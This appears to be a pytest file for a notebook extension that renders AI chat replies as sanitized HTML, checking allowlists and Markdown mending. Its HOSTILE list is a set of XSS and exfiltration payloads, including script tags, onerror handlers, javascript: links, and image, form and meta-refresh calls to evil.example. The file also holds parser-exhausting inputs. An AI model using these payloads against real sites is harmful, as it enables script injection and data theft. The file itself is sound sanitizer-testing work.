"""What stays in the notebook reads well everywhere and cannot act anywhere."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from or_notebook.chat.reply import Reply
from or_notebook.display.markdown import to_html
from or_notebook.display.saved import bundle, metadata
from or_notebook.display.unfinished import mend
from or_notebook.wire import deltas as d
from or_notebook.wire.errors import ErrorDetail

ELEMENTS = set(
    """
    a blockquote br code del details div em h1 h2 h3 h4 h5 h6 hr img li ol p pre s span strong
    summary table tbody td th thead tr ul
    """.split()  # noqa: SIM905 - a list to read
)
ATTRIBUTES = set(
    "alt aria-label class href open rel role src start style tabindex title".split()  # noqa: SIM905
)
STYLES = set(
    """
    background-color border-left border-radius color font-family font-size font-weight line-height
    margin margin-bottom max-height max-width opacity overflow-wrap overflow-x overflow-y padding
    padding-left padding-top text-align white-space word-break
    """.split()  # noqa: SIM905
)
INLINE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*")
PNG = "data:image/png;base64,iVBORw0KGgo="


class Inspector(HTMLParser):
    """Reads a page as a browser does and collects what is not on the list of what may be there."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS, tag
        self.elements.append(tag)
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "href":
                assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), value
                self.links.append(value or "")
            elif name == "src":
                assert INLINE_IMAGE.fullmatch(value or ""), value
            elif name == "style":
                self.check_style(value or "")

    def check_style(self, style: str) -> None:
        assert "url" not in style
        for rule in style.split(";"):
            name = rule.partition(":")[0]
            assert name in STYLES or name.startswith("--or-"), name

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def answer(text: str, *more: d.Delta) -> Reply:
    reply = Reply(requested_model="openai/gpt-5.4-mini")
    reply.apply(d.Opened(200), 0.1)
    reply.apply(d.TextDelta(text), 1.0)
    for delta in more:
        reply.apply(delta, 2.0)
    reply.apply(d.Finish("stop"), 2.0)
    reply.apply(d.Closed(3), 2.1)
    return reply


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=https://evil.example/x.png>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](#top)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "![x](https://evil.example/leak.png?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](https://x.example/'onerror='alert(1))",
    '![a"onerror="alert(1)](https://x.example/)',
    '[a](https://x.example/ "t\\" onclick=\\"alert(1)")',
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<iframe src=https://evil.example></iframe><object data=x><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example>",
    "<video src=https://evil.example/v poster=x><audio src=x autoplay>",
    "<!-- --><![CDATA[<script>]]><?php echo ?><!DOCTYPE html>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`</code><script>alert(1)</script>`",
    "| <script> | ![x](https://evil.example) |\n|---|---|\n| <b onclick=x> | $</td>$ |",
    r"$\href{javascript:alert(1)}{x}$ \(\style{background:url(https://evil.example)}{x}\)",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "\\begin{align}\n</p><script>alert(1)</script>\n\\end{align}",
]


class TestCannotAct:
    """Only listed elements, attributes, styles and addresses come out, whatever goes in."""

    @pytest.mark.parametrize("text", HOSTILE)
    @pytest.mark.parametrize("format", ["markdown", "text", "code", "json"])
    def test_hostile_answer(self, text: str, format: str) -> None:  # noqa: A002
        page = Inspector(bundle(answer(text), format=format)["text/html"])
        assert "img" not in page.elements

    @pytest.mark.parametrize("text", HOSTILE)
    def test_hostile_text_beside_the_answer(self, text: str) -> None:
        error = ErrorDetail(kind="ProviderFailed", message=text, meaning=text, provider=text)
        reply = answer(
            "",
            d.ReasoningDelta(text),
            d.RefusalDelta(text),
            d.Origin(model=text, provider=text),
            d.ToolCallDelta(index=0, name=text, arguments=text),
            d.ImageDelta(text),
            d.AudioDelta(transcript=text),
            d.AnnotationDelta({"type": "url_citation", "url": text, "title": text}),
            d.AnnotationDelta({"url_citation": {"url": "https://a.example", "title": text}}),
            d.TextDelta(text, choice=1),
            d.Failure(error),
        )
        assert "img" not in Inspector(bundle(reply)["text/html"]).elements

    @settings(max_examples=300, deadline=None)
    @given(
        st.text(
            st.sampled_from(list("<>&\"'`*_[]()!#|\\$~:;=/-+. \n\tabx1\x1b\u202e")), max_size=80
        )
    )
    def test_any_markup(self, text: str) -> None:
        page = bundle(answer(text))["text/html"]
        Inspector(page)
        assert len(page) <= 60 * len(text) + 12_000

    @settings(max_examples=200, deadline=None)
    @given(st.text(max_size=200))
    def test_any_text_can_be_saved(self, text: str) -> None:
        for form in bundle(answer(text)).values():
            form.encode("utf-8")
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", form)

    @pytest.mark.parametrize(
        "url",
        [
            "data:image/svg+xml;base64,PHN2Zz4=",
            'data:image/png;base64,AAAA" onerror="alert(1)',
            "data:image/png;base64,AAAA\n",
            "data:text/html;base64,AAAA",
            "data:image/png,AAAA",
            "https://evil.example/x.png",
            "javascript:alert(1)",
        ],
    )
    def test_only_inline_pixels_are_images(self, url: str) -> None:
        assert "img" not in Inspector(bundle(answer("", d.ImageDelta(url)))["text/html"]).elements

    def test_formulas_that_could_act_are_code(self) -> None:
        assert to_html(r"$\href{javascript:alert(1)}{x}$").startswith("<p><code>")
        assert to_html(r"\(\def\alpha{x}\)").startswith("<p><code>")


class TestHardText:
    """Hostile lengths and depths end within seconds, as plain text if need be."""

    @pytest.mark.parametrize(
        "text",
        [
            ">" * 10_000,
            "> " * 10_000,
            "- " * 10_000,
            "a" * 1_000_000,
            "[" * 50_000,
            "*" * 50_000,
            "*a **b " * 20_000,
            "`" * 50_000,
            "$" * 50_000,
            "\\(" * 50_000,
            "$$\n" * 50_000,
            "[a](" * 30_000,
            "[a]: https://x.example\n\n" + "[a]" * 50_000,
            "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n" + "|b\n" * 2000,
            "```java\n" + "a " * 40_000,
            "```diff\n" + "+" * 50_000,
            "**a " * 900,
            "[" * 3_900 + "](x",
        ],
        ids=lambda text: text[:12],
    )
    def test_ends_soon(self, text: str) -> None:
        started = time.process_time()
        page = to_html(mend(text))
        # Twice what is wanted, for slow machines.
        assert time.process_time() - started < 4
        assert len(page) <= 60 * len(text) + 20_000


class TestReadsWell:
    def test_answer_and_summary_are_named_parts(self) -> None:
        page = bundle(answer("Hello **you**"))["text/html"]
        assert '<div role="region" aria-label="Answer">' in page
        assert 'aria-label="Usage summary"' in page
        assert "<strong>you</strong>" in page

    def test_plain_text_is_the_source_and_the_summary(self) -> None:
        assert bundle(answer("# Hi\n\n*you*\n"))["text/plain"] == (
            "# Hi\n\n*you*\n\nopenai/gpt-5.4-mini · cost unknown · first token 1.0 s · 2.1 s"
        )

    def test_reasoning_is_collapsed_and_not_in_the_plain_text(self) -> None:
        forms = bundle(answer("yes", d.ReasoningDelta("hm **hm**")))
        assert "<details style" in forms["text/html"]
        assert "<strong>hm</strong>" in forms["text/html"]
        assert "hm" not in forms["text/plain"]

    def test_reasoning_that_was_open_stays_open(self) -> None:
        reply = answer("yes", d.ReasoningDelta("hm"))
        assert "<details open " in bundle(reply, reasoning_open=True)["text/html"]

    def test_no_line_of_the_summary_begins_with_a_dot(self) -> None:
        page = bundle(answer("x"))["text/html"]
        assert "openai/gpt-5.4-mini&nbsp;· cost unknown&nbsp;· first token" in page

    def test_code_scrolls_and_names_its_language(self) -> None:
        page = to_html("```Fortran\nx = 1\n```")
        assert ">Fortran</div>" in page
        assert "overflow-x:auto;white-space:pre;" in page

    def test_prices_are_not_mathematics(self) -> None:
        assert to_html("$5 or $6") == "<p><span>$</span>5 or <span>$</span>6</p>\n"

    @pytest.mark.parametrize(
        "tex",
        ["$a_b*c*d$", r"\(x_1 \\ y_1\)", r"$$\frac{a_1}{b_1}$$", "$$\na \\\\\nb_c_d\n$$", r"\[x\]"],
    )
    def test_formulas_reach_the_page_as_written(self, tex: str) -> None:
        assert to_html(tex) == f"<p>{tex}</p>\n"

    def test_tex_in_code_stays_code(self) -> None:
        assert to_html("`$x$`") == "<p><code>$x$</code></p>\n"

    def test_code_is_coloured_by_class_and_variable(self) -> None:
        page = bundle(answer("```python\nimport os\n```"))["text/html"]
        assert '<span class="k" style="color:var(--or-k)">import</span>' in page
        assert "--or-k:color-mix(in srgb,var(--jp-mirror-editor-keyword-color" in page

    def test_no_blank_line_ends_the_html_in_a_markdown_file(self) -> None:
        page = bundle(answer("a\n\n```\nx\n\n\n  \ny\n```\n\n$$\na\n$$\n"))["text/html"]
        assert all(line.strip() for line in page.split("\n"))
        assert "x\n\n\n  \ny" in Inspector(page).text.replace("\n\n\n\n", "\n\n\n")

    def test_table_keeps_its_alignment(self) -> None:
        page = to_html("| a | b |\n|---|--:|\n| 1 | 2 |")
        assert '<td style="text-align:left">1</td>' in page
        assert '<td style="text-align:right">2</td>' in page

    def test_images_are_links_unless_inline(self) -> None:
        page = bundle(answer("![pic](https://x.example/a.png)", d.ImageDelta(PNG)))["text/html"]
        assert ">image: pic</a>" in page
        assert f'<img src="{PNG}"' in page

    def test_image_in_a_link_does_not_nest_links(self) -> None:
        page = to_html("[![alt](https://i.example)](https://k.example)")
        assert page.count("<a ") == 1
        assert "image: alt" in page

    def test_task_lists_have_boxes(self) -> None:
        page = to_html("- [ ] todo\n- [x] done")
        assert "☐ todo" in page
        assert "☑ done" in page

    def test_citations_are_numbered_links_each_once(self) -> None:
        citation = {"url_citation": {"url": "https://a.example/", "title": "A"}}
        reply = answer("x", d.AnnotationDelta(citation), d.AnnotationDelta(citation))
        assert bundle(reply)["text/html"].count('<a href="https://a.example/"') == 1
        assert "[1] A: https://a.example/" in bundle(reply)["text/plain"]

    def test_tool_call_shows_its_arguments(self) -> None:
        reply = answer("", d.ToolCallDelta(index=0, name="weather", arguments='{"city":"Paris"}'))
        page = Inspector(bundle(reply)["text/html"]).text
        assert "Tool call: weather" in page
        assert '"city": "Paris"' in page
        assert 'weather({"city":"Paris"})' in bundle(reply)["text/plain"]

    def test_failed_answer_keeps_its_text_and_shows_three_lines(self) -> None:
        error = ErrorDetail(kind="ProviderFailed", message="Died", meaning="M", hint="H")
        page = Inspector(bundle(answer("partial", d.Failure(error)))["text/html"]).text
        assert "partial" in page
        assert "Failed after 2.1 s.DiedMH" in page

    def test_cancelled_answer_is_marked(self) -> None:
        reply = Reply(requested_model="m")
        reply.apply(d.TextDelta("partial"), 1.0)
        reply.cancel(3.24)
        for form in bundle(reply).values():
            assert "partial" in form
            assert "Cancelled after 3.2 s: the answer is incomplete." in form

    @pytest.mark.parametrize(
        ("text", "mended"),
        [
            ("It is **very imp", "It is **very imp**"),
            ("It is **very ", "It is **very**"),
            ("It is **very imp*", "It is **very imp**"),
            ("It is **", "It is"),
            ("one *two **three", "one *two **three***"),
            ("~~gone", "~~gone~~"),
            ("call `print(", "call `print(`"),
            ("call `", "call"),
            ("1. one\n2.", "1. one"),
            ("- one\n- ", "- one"),
            ("- one **\n- **two", "- one **\n- **two**"),
            ("Text\n\n##", "Text"),
            ("see [the page](https://exam", "see the page"),
            ("2 * 3, snake_case_, a_b and C*", "2 * 3, snake_case_, a_b and C*"),
            ("costs $x_1$ and *y", "costs $x_1$ and *y*"),
            ("**bold** and `code`.", "**bold** and `code`."),
            ("```python\nx = '**", "```python\nx = '**"),
            ("$$\na_1 **", "$$\na_1 **"),
        ],
    )
    def test_answer_cut_short_has_no_half_marks(self, text: str, mended: str) -> None:
        reply = Reply(requested_model="m")
        reply.apply(d.TextDelta(text), 1.0)
        reply.cancel(2.0)
        forms = bundle(reply)
        assert to_html(mended) in forms["text/html"]
        assert forms["text/plain"].startswith(text.rstrip())

    def test_whole_answer_is_not_mended(self) -> None:
        assert to_html("It is **very") in bundle(answer("It is **very"))["text/html"]

    def test_refusal_is_marked(self) -> None:
        for form in bundle(answer("", d.RefusalDelta("I won't"))).values():
            assert "Refused:" in form

    def test_characters_that_act_are_removed_or_spelled_out(self) -> None:
        forms = bundle(answer("a\x1b[31mb\x1b]0;title\x07c\x9b2J\r\nd\u202ee\x00\ud800"))
        assert forms["text/plain"].startswith("abc\nd⟨U+202E⟩e\ufffd")


class TestFormats:
    def test_text_is_shown_as_it_is(self) -> None:
        page = bundle(answer("*a*\n  <b>"), format="text")["text/html"]
        assert '<pre style="white-space:pre-wrap">*a*\n  &lt;b&gt;</pre>' in page

    def test_json_is_laid_out_without_changing_its_values(self) -> None:
        reply = answer('```json\n{"a":1.0e5,"a":[1]}\n```')
        page = bundle(reply, format="json")["text/html"]
        assert '{\n  "a": 1.0e5,\n  "a": [\n    1\n  ]\n}' in Inspector(page).text

    def test_what_is_not_json_is_shown_as_it_is(self) -> None:
        assert "{nope" in Inspector(bundle(answer("{nope"), format="json")["text/html"]).text

    def test_code_loses_its_fence_and_keeps_its_language(self) -> None:
        page = bundle(answer("```python\nimport os\n```"), format="code")["text/html"]
        assert "```" not in page
        assert 'class="k"' in page


def test_metadata_is_plain_json() -> None:
    notes = metadata(answer("x", d.UsageDelta({"cost": 0.1})))
    assert json.loads(json.dumps(notes)) == notes
    assert notes["or_notebook"]["cost"] == "0.1"
